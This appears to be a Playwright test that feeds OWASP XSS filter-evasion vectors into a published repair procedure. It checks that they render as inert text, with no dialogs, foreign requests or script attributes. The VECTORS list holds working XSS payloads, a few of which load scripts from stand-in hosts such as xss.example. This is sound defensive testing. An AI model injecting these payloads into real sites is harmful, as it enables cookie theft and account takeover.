import { expect, test } from '@playwright/test';
import { DEMO } from './support';
import { publishAndStart, tablet } from './runner-support';

// Vectors from the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org, "XSS Filter Evasion Cheat
// Sheet"), a selection of those in src/lib/procedure/render.test.ts, with foreign hosts on invented .example domains.
// They go into a published procedure's step prose, callouts, a link, an image and a checkpoint prompt, and must
// reach the runner as inert text: no dialog, no request to another host, no script, handler or script URL in the DOM.
const VECTORS = [
	`<SCRIPT SRC=https://cdn.example/xss.js></SCRIPT>`,
	`<script>alert('XSS')</script>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
	`<iframe src=http://xss.example/scriptlet.html <`,
	`<svg/onload=alert('XSS')>`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<form><button formaction=javascript:alert(1)>X</button></form>`,
	`<details open ontoggle=alert(1)>`
];
const PROMPT_VECTOR = `Magnet clean <img src=x onerror="alert('prompt')"> <script>alert('prompt')</script>`;
const TITLE = `XSS corpus procedure ${Date.now().toString(36)}`;

/** A one-step procedure carrying the vectors (invented for the test; not service data). */
const source = () => `---
title: ${TITLE}
family: KTX-7 (invented seven-speed dual-clutch transaxle)
purpose: Check that procedure text renders inert in the runner.
specs: Invented for a test; not service data.
---

## Inspect the magnet

${VECTORS.map((v) => `Prose line: ${v}`).join('\n\n')}

${VECTORS.map((v) => `> Warning: ${v}`).join('\n>\n')}

> Note: [a script link](javascript:alert('XSS')) and [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

![a foreign image](https://evil.example/x.png)

\`\`\`confirm magnet-xss
prompt: ${PROMPT_VECTOR}
\`\`\`
`;

test('OWASP XSS filter-evasion vectors in a procedure render inert in the runner', async ({ browser }) => {
	test.setTimeout(60_000);
	const runId = await publishAndStart(browser, source());
	const page = await tablet(browser, DEMO.technician.email);
	const dialogs: string[] = [];
	page.on('dialog', (d) => {
		dialogs.push(`${d.type()}: ${d.message()}`);
		void d.dismiss();
	});
	const foreign: string[] = [];
	const appHost = new URL(page.url()).host;
	page.on('request', (r) => {
		const u = new URL(r.url());
		if (u.protocol !== 'data:' && u.protocol !== 'blob:' && u.host !== appHost) foreign.push(r.url());
	});

	await page.goto(`/runs/${runId}`);
	await expect(page.getByRole('heading', { name: TITLE })).toBeVisible();
	const step = page.locator('article');
	// The vectors arrived, as text.
	await expect(step).toContainText(`<script>alert('XSS')</script>`);
	await expect(step).toContainText(`<svg/onload=alert('XSS')>`);
	await expect(step).toContainText(`onerror="alert('prompt')"`);
	// Give handlers (onerror of a broken image, ontoggle, onload, meta refresh) a chance to fire.
	await step.hover();
	await page.waitForLoadState('networkidle');
	await page.waitForTimeout(500);

	const found = await step.evaluate((root) => {
		const bad: string[] = [];
		for (const el of root.querySelectorAll('script, iframe, object, embed, frame, frameset, base, meta, link, style'))
			bad.push(`<${el.tagName.toLowerCase()}>`);
		for (const el of root.querySelectorAll('.procedure svg, .procedure math'))
			bad.push(`<${el.tagName.toLowerCase()}>`);
		for (const el of [root, ...root.querySelectorAll('*')])
			for (const a of el.attributes) {
				if (/^on/i.test(a.name)) bad.push(`${el.tagName.toLowerCase()} ${a.name}`);
				if (/^\s*(javascript|vbscript|data:text\/html)/i.test(a.value.replace(/\s/g, '')))
					bad.push(`${el.tagName.toLowerCase()} ${a.name}="${a.value}"`);
			}
		return bad;
	});
	expect(found).toEqual([]);
	expect(dialogs).toEqual([]);
	expect(foreign).toEqual([]);
	await expect(page).toHaveURL(new RegExp(`/runs/${runId}$`));
});
